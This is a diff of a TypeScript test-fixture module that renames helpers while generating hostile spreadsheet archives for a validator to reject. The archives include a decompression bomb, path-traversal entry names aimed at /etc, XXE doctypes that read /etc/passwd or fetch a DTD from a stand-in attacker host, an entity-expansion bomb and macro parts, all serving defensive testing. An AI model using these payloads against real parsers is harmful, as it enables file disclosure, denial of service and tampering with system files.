@@ -1,12 +1,12 @@
 import { deflateRawSync } from 'node:zlib';
 import type { HostileKind, Random } from './hostile-kind.ts';
-import { rejectedFile } from './hostile-kind.ts';
-import { toCells, goodLines, headers } from './lines.ts';
+import { defineRejectedFile } from './hostile-kind.ts';
+import { toCells, buildGoodLines, headers } from './lines.ts';
 import type { ZipPart } from './workbook.ts';
 import { sheetXml, stringsXml, textRows, workbookParts, buildZip } from './workbook.ts';
 
-const rows = textRows([headers, ...goodLines(5).map(toCells)]);
-const goodParts = () =>
+const rows = textRows([headers, ...buildGoodLines(5).map(toCells)]);
+const buildGoodParts = () =>
   workbookParts({ sheets: [{ name: 'Returns', xml: sheetXml(rows) }], strings: stringsXml(['x']) });
 
 const partNames = [
@@ -20,29 +20,30 @@ const partNames = [
 ] as const;
 
 const changeParts = (name: string, change: (part: ZipPart) => ZipPart) =>
-  goodParts().map((part) => (part.name === name ? change(part) : part));
+  buildGoodParts().map((part) => (part.name === name ? change(part) : part));
 
-/** Defines archives in which a random part has a wrong field. */
-const withWrongField = (
+/** Defines a kind of archive in which a random part has a wrong field. */
+const defineWrongField = (
   name: string,
-  codes: Parameters<typeof rejectedFile>[1],
+  codes: Parameters<typeof defineRejectedFile>[1],
   override: (random: Random, part: ZipPart) => Partial<ZipPart>,
 ): HostileKind =>
-  rejectedFile(name, codes, (random) =>
-    buildZip(changeParts(random.oneOf(partNames), (part) => ({ ...part, ...override(random, part) }))),
+  defineRejectedFile(name, codes, (random) =>
+    buildZip(changeParts(random.pick(partNames), (part) => ({ ...part, ...override(random, part) }))),
   );
 
-/** 64 MB that compress to 64 KB. */
-const bombPacked = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
+/** Compressed content of 64 KB that decompresses to 64 MB. */
+const compressedBomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
 const bombSize = 64 * 1024 * 1024;
 
-const withContent = (name: string, change: (text: string) => string) =>
+const changeContent = (name: string, change: (text: string) => string) =>
   buildZip(changeParts(name, (part) => ({ ...part, content: change(String(part.content)) })));
 
-const afterHead = (declaration: string) => (text: string) => text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);
+const insertAfterXmlDeclaration = (declaration: string) => (text: string) =>
+  text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);
 
-const doctypes = (random: Random) =>
-  random.oneOf([
+const pickDoctype = (random: Random) =>
+  random.pick([
     '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
     '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
     '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
@@ -51,69 +52,69 @@ const doctypes = (random: Random) =>
 
 /** Archives with wrong fields, decompression bombs, hidden content or external references. */
 export const hostileArchives: readonly HostileKind[] = [
-  withWrongField('a bomb with its true size', 'FileTooLarge', () => ({ packed: bombPacked, size: bombSize })),
-  withWrongField('a bomb with a small declared size', 'FileDamaged', (random) => ({
-    packed: bombPacked,
-    size: 1 + random.below(100_000),
+  defineWrongField('a bomb with its true size', 'FileTooLarge', () => ({ compressed: compressedBomb, size: bombSize })),
+  defineWrongField('a bomb with a small declared size', 'FileDamaged', (random) => ({
+    compressed: compressedBomb,
+    size: 1 + random.nextInt(100_000),
   })),
-  rejectedFile('bombs in unused parts', 'FileTooLarge', (random) =>
+  defineRejectedFile('bombs in unused parts', 'FileTooLarge', (random) =>
     buildZip([
-      ...goodParts(),
-      ...Array.from({ length: 2 + random.below(5) }, (_, index) => ({
+      ...buildGoodParts(),
+      ...Array.from({ length: 2 + random.nextInt(5) }, (_, index) => ({
         name: `xl/media/image${index}.png`,
         content: '',
-        packed: bombPacked,
+        compressed: compressedBomb,
         size: bombSize / 2,
       })),
     ]),
   ),
-  withWrongField('a slightly too large declared size', 'FileDamaged', (random, part) => ({
-    size: part.content.length + 1000 + random.below(1000),
+  defineWrongField('a slightly too large declared size', 'FileDamaged', (random, part) => ({
+    size: part.content.length + 1000 + random.nextInt(1000),
   })),
-  withWrongField('a wrong checksum', 'FileDamaged', (random) => ({ sum: random.below(2 ** 31) })),
-  withWrongField('compressed bytes beyond the end', 'FileDamaged', (random) => ({
-    packedSize: 10_000_000 + random.below(1_000_000_000),
+  defineWrongField('a wrong checksum', 'FileDamaged', (random) => ({ checksum: random.nextInt(2 ** 31) })),
+  defineWrongField('compressed bytes beyond the end', 'FileDamaged', (random) => ({
+    compressedSize: 10_000_000 + random.nextInt(1_000_000_000),
   })),
-  withWrongField('an unsupported compression method', 'FileDamaged', (random) => ({
-    method: random.oneOf([1, 6, 9, 12, 14, 93, 99]),
+  defineWrongField('an unsupported compression method', 'FileDamaged', (random) => ({
+    method: random.pick([1, 6, 9, 12, 14, 93, 99]),
   })),
-  rejectedFile('thousands of parts', 'FileTooLarge', (random) =>
+  defineRejectedFile('thousands of parts', 'FileTooLarge', (random) =>
     buildZip([
-      ...goodParts(),
-      ...Array.from({ length: 400 + random.below(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
+      ...buildGoodParts(),
+      ...Array.from({ length: 400 + random.nextInt(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
     ]),
   ),
-  rejectedFile('a too large entry count', ['FileDamaged', 'FileTooLarge'], (random) =>
-    buildZip(goodParts(), { entries: 8 + random.below(60_000) }),
+  defineRejectedFile('a too large entry count', ['FileDamaged', 'FileTooLarge'], (random) =>
+    buildZip(buildGoodParts(), { entries: 8 + random.nextInt(60_000) }),
   ),
-  rejectedFile('a duplicate part', 'FileDamaged', (random) => {
-    const name = random.oneOf(partNames);
-    return buildZip([...goodParts(), { name: random.oneOf([name, name.toUpperCase()]), content: '<a/>' }]);
+  defineRejectedFile('a duplicate part', 'FileDamaged', (random) => {
+    const name = random.pick(partNames);
+    return buildZip([...buildGoodParts(), { name: random.pick([name, name.toUpperCase()]), content: '<a/>' }]);
   }),
-  rejectedFile('a path outside the archive', 'FileDamaged', (random) =>
+  defineRejectedFile('a path outside the archive', 'FileDamaged', (random) =>
     buildZip([
-      ...goodParts(),
+      ...buildGoodParts(),
       {
-        name: random.oneOf(['../../etc/cron.d/x', '/etc/passwd', 'xl/../../x', 'C:/x', String.raw`xl\..\..\x`]),
+        name: random.pick(['../../etc/cron.d/x', '/etc/passwd', 'xl/../../x', 'C:/x', String.raw`xl\..\..\x`]),
         content: 'x',
       },
     ]),
   ),
-  rejectedFile('a document type', 'FileDamaged', (random) =>
-    withContent(random.oneOf(partNames), afterHead(doctypes(random))),
+  defineRejectedFile('a document type', 'FileDamaged', (random) =>
+    changeContent(random.pick(partNames), insertAfterXmlDeclaration(pickDoctype(random))),
   ),
-  rejectedFile('an undeclared entity', 'FileDamaged', (random) =>
-    withContent(random.oneOf(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
+  defineRejectedFile('an undeclared entity', 'FileDamaged', (random) =>
+    changeContent(random.pick(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
   ),
-  withWrongField('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
-    content: Buffer.from(`\uFEFF${afterHead(doctypes(random))(String(part.content))}`, 'utf16le'),
+  defineWrongField('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
+    content: Buffer.from(`\uFEFF${insertAfterXmlDeclaration(pickDoctype(random))(String(part.content))}`, 'utf16le'),
   })),
-  rejectedFile('macros', 'FileWithMacros', (random) =>
-    random.oneOf([
-      buildZip([...goodParts(), { name: 'xl/vbaProject.bin', content: random.bytes(500) }]),
-      buildZip([...goodParts(), { name: 'XL/VBAPROJECT.BIN', content: random.bytes(500) }]),
-      buildZip([...goodParts(), { name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
-      withContent('[Content_Types].xml', (text) =>
+  defineRejectedFile('macros', 'FileWithMacros', (random) =>
+    random.pick([
+      buildZip([...buildGoodParts(), { name: 'xl/vbaProject.bin', content: random.bytes(500) }]),
+      buildZip([...buildGoodParts(), { name: 'XL/VBAPROJECT.BIN', content: random.bytes(500) }]),
+      buildZip([...buildGoodParts(), { name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
+      changeContent('[Content_Types].xml', (text) =>
         text.replace(
           '</Types>',
           '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
@@ -121,10 +122,10 @@ export const hostileArchives: readonly HostileKind[] = [
       ),
     ]),
   ),
-  withWrongField('an encrypted part', 'FilePasswordProtected', () => ({ flags: 1 })),
-  rejectedFile('an archive that is not a workbook', 'FileWrongType', (random) =>
+  defineWrongField('an encrypted part', 'FilePasswordProtected', () => ({ flags: 1 })),
+  defineRejectedFile('an archive that is not a workbook', 'FileWrongType', (random) =>
     buildZip(
-      random.oneOf<ZipPart[]>([
+      random.pick<ZipPart[]>([
         [
           { name: '[Content_Types].xml', content: '<Types/>' },
           {
@@ -139,7 +140,7 @@ export const hostileArchives: readonly HostileKind[] = [
       ]),
     ),
   ),
-  rejectedFile('a missing sheet part', 'FileDamaged', () =>
-    buildZip(goodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
+  defineRejectedFile('a missing sheet part', 'FileDamaged', () =>
+    buildZip(buildGoodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
   ),
 ];
